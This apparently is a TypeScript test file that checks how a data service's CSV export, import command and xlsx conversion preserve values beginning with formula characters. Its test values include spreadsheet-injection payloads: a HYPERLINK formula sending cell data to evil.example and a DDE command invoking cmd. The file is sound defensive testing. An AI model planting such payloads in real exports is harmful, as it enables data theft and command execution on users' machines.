/** What spreadsheets take for a formula: CSV leaves it exact, both ways; a spreadsheet made here holds it as text. */
import * as spreadsheets from '@e965/xlsx'
import assert from 'node:assert/strict'
import test from 'node:test'
import { refOf } from '../../src/sequences/sequences.ts'
import { SECOND, type Micros } from '../../src/base/time.ts'
import { startCommandLineLab } from '../support/command-line.ts'
import { startLab } from '../support/lab.ts'

const TEXTS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+49 30 1234',
  '-5 °C, outside',
  '@SUM(A1:A9)',
  '\t=1',
  "'=1",
  '-3.5',
  'plain',
]
const NUMBERS = [-3.5, 1e-7, 21, -1e21]
const START: Micros = Date.UTC(2026, 0, 1) * 1000

test('CSV of sequences is exact, whatever values begin with: the same texts and numbers come back', async (t) => {
  const lab = await startLab(t)
  const texts = await lab.sequence('/lab/texts', 2)
  const numbers = await lab.sequence('/lab/numbers')
  const copies = [await lab.sequence('/lab/texts copy', 2), await lab.sequence('/lab/numbers copy')]
  for (const [sequence, values] of [
    [texts, TEXTS],
    [numbers, NUMBERS],
  ] as const) {
    await lab.ctx.sequences.append(values.map((value, at) => ({ sequence: refOf(sequence), time: START + at * SECOND, value })))
  }
  for (const [at, sequence] of [texts, numbers].entries()) {
    const csv = (await lab.get(`/resources/lab/${sequence.name}?format=csv`)).text
    const rows = csv.split('\n').slice(1)
    if (sequence === numbers)
      assert.deepEqual(
        rows.filter((row) => row !== '').map((row) => row.split(',')[1]),
        ['-3.5', '1e-7', '21', '-1e+21'],
        'numbers are numbers',
      )
    else assert.match(csv, /,=1\+1\n.*,@SUM\(A1:A9\)\n/s)
    const body = `path,timestamp,value\n${rows.map((row) => (row === '' ? '' : `/lab/${sequence.name} copy,${row}`)).join('\n')}`
    const sent = await fetch(`${lab.url}/api/v1/sequences/values`, {
      method: 'POST',
      body,
      headers: { 'content-type': 'text/csv', authorization: `Bearer ${lab.key}` },
    })
    assert.equal(sent.status, 200)
    const copy = copies[at]
    assert.ok(copy)
    const range = { order: 'ascending', limit: 100 } as const
    assert.deepEqual(await lab.ctx.sequences.read(refOf(copy), range), await lab.ctx.sequences.read(refOf(sequence), range))
  }
})

test('the command exports and imports them unchanged', async (t) => {
  const lab = await startCommandLineLab(t)
  for (const name of ['texts', 'copy']) await lab.run('seq', 'create', `/test-org/c/${name}`, '--type', 'text')
  assert.equal((await lab.rhizoWithInput(`${TEXTS.join('\n')}\n`, 'seq', 'update', '/test-org/c/texts', '-')).code, 0)
  await lab.run('seq', 'export', '/test-org/c/texts', 'texts.csv')
  const answer = (await lab.json('seq', 'import', '/test-org/c/copy', 'texts.csv')) as Record<string, number>
  assert.deepEqual([answer['stored'], answer['repeated'], answer['refused']], [TEXTS.length, 0, 0])
  const stored = (await lab.json('seq', 'get', '/test-org/c/copy', '-n', '100')) as { value: string }[]
  assert.deepEqual(
    stored.map(({ value }) => value),
    TEXTS,
  )
  assert.deepEqual(stored, await lab.json('seq', 'get', '/test-org/c/texts', '-n', '100'))
})

test('a spreadsheet made of such a CSV has text cells of text and number cells of numbers, and no formula', async (t) => {
  const lab = await startLab(t)
  const texts = await lab.sequence('/lab/texts', 2)
  await lab.ctx.sequences.append([...TEXTS, '12.5'].map((value, at) => ({ sequence: refOf(texts), time: START + at * SECOND, value })))
  const csv = await lab.get('/resources/lab/texts?format=csv')
  await lab.post('/resources', { path: '/lab', name: 'texts.csv', type: 20, data: Buffer.from(csv.bytes).toString('base64') })
  const reply = await lab.get('/resources/lab/texts.csv', { convert_to: 'xlsx', download: 1 })
  const sheet = spreadsheets.read(reply.bytes, { type: 'array' }).Sheets['data']
  const cells = [...TEXTS, '12.5'].map((_, at) => sheet?.[`B${at + 2}`] as { t: string; v: unknown; f?: string } | undefined)
  assert.deepEqual(
    cells.map((cell) => cell?.f),
    cells.map(() => undefined),
  )
  assert.deepEqual(
    cells.map((cell) => [cell?.t, cell?.v]),
    [...TEXTS.map((text) => (text === '-3.5' ? ['n', -3.5] : ['s', text])), ['n', 12.5]],
  )
})
